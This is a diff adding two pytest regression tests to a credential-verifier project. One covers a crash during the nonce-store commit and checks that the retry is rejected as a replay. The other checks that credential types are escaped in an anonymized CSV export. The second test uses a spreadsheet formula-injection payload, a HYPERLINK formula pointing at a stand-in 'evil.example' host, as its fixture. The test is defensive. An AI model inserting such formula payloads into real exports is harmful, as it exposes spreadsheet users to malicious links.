@@ -118,6 +118,41 @@ def test_a_failed_log_write_leaves_the_nonce_usable(world: World, tmp_path: Path
     log.close()
 
 
+def test_a_nonce_commit_that_never_happened_does_not_let_the_retry_count_twice(world: World, tmp_path: Path,
+                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
+    """Issue 13: the entry was written, the nonce store's commit failed (a crash there); the retry is refused."""
+    from kaga_vc.errors import NONCE_REPLAYED, ProofError
+    from kaga_vc.verifier import nonces as nonce_module
+    from kaga_vc.verifier import parse_request
+
+    world.wallet.add(world.issue("sd-jwt").document)
+    bundle = world.bundle()
+    policy = Policy(trusted_cities=(world.config.did,))
+    req = create_request(signer=world.verifier, purpose="hotel check-in", credentials=AGE)
+    answer = world.wallet.present(req.token).compact
+    nonce = parse_request(req.token)[0].nonce
+    log = AccessLog.open(str(tmp_path / "log.db"), log_key=LOG_KEY, signer=world.verifier)
+    commit = nonce_module.NonceReservation.commit
+
+    def crash(self: Any) -> None:
+        self.rollback()  # what the process's death does to the open SQLite transaction
+        raise SystemExit("killed after the log write")
+
+    with NonceStore(tmp_path / "nonces.sqlite3") as nonces:
+        monkeypatch.setattr(nonce_module.NonceReservation, "commit", crash)
+        with pytest.raises(SystemExit):
+            verify_and_record(answer, request=req.token, bundle=bundle.token, log=log, policy=policy,
+                              nonce_store=nonces)
+        monkeypatch.setattr(nonce_module.NonceReservation, "commit", commit)
+        assert len(log) == 1 and not nonces.is_used(nonce)
+        with pytest.raises(ProofError) as info:
+            verify_and_record(answer, request=req.token, bundle=bundle.token, log=log, policy=policy,
+                              nonce_store=nonces)
+        assert info.value.code == NONCE_REPLAYED
+        assert len(log) == 1 and nonces.is_used(nonce)  # no second entry; the store caught up
+    log.close()
+
+
 def test_two_people_in_one_response_are_recorded_as_refused_under_neither(world: World, tmp_path: Path) -> None:
     """Issue 11: one response, one person. The refusal is recorded (kaga:multiple-subjects) but is
     indexed under neither person: recording it under the first would put the second person's
@@ -152,3 +187,42 @@ def test_two_people_in_one_response_are_recorded_as_refused_under_neither(world:
         assert theirs == []
     assert len(log) == 1 and log.verify().ok
     log.close()
+
+
+def test_credential_types_of_refused_presentations_are_escaped_in_the_open_data_csv(world: World,
+                                                                                     tmp_path: Path) -> None:
+    """Issue 13: a self-made issuer's credential with a formula for a type, refused, reached the public CSV live."""
+    import csv
+    import time as clock
+
+    from kaga_vc.accesslog import export_anonymized
+    from kaga_vc.proofs.jose import issue_sd_jwt, present_sd_jwt
+    from kaga_vc.verifier import PresentationResponse, encode_response
+    from tests.verifier.conftest import did_key_signer
+
+    formula = '=HYPERLINK("evil.example?x","click")'
+    forger = did_key_signer()
+    policy = Policy(trusted_cities=(world.config.did,))
+    bundle = world.bundle()
+    log = AccessLog.open(str(tmp_path / "log.db"), log_key=LOG_KEY, signer=world.verifier)
+    residents = [world.wallet, create_wallet(tmp_path / "second.json", PASSWORD, scrypt_n=FAST)]
+    with NonceStore(tmp_path / "nonces.sqlite3") as nonces:
+        for wallet in residents:  # two residents: the cell is over k = 2 and published
+            token = issue_sd_jwt({"iss": forger.key_id.split("#")[0], "vct": formula, "iat": int(clock.time()) - 60,
+                                  "sub": wallet.did, "ageOver18": True}, signer=forger, disclosable=["ageOver18"],
+                                 holder_key=wallet.signer.key.public_key)
+            req = create_request(signer=world.verifier, purpose="hotel check-in", credentials=AGE)
+            shown = present_sd_jwt(token, disclose=["ageOver18"], holder_signer=wallet.signer,
+                                   audience=req.verifier, nonce=req.nonce)
+            result, entry = verify_and_record(encode_response(PresentationResponse(req.id, (shown,))),
+                                              request=req.token, bundle=bundle.token, log=log, policy=policy,
+                                              nonce_store=nonces)
+            assert not result.verified and entry.body["result"] == "refused"
+            assert formula in entry.body["credentialTypes"], entry.body  # recorded as presented
+            assert entry.body["subjectIndex"] is not None, (result.details.get("holderProven"), result.codes)
+    export_anonymized(log, tmp_path / "open-data", k=2, bucket="month")
+    log.close()
+    rows = list(csv.reader((tmp_path / "open-data" / "access-counts.csv").open(encoding="utf-8", newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert f"'{formula}" in cells  # the type is there, as text
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells
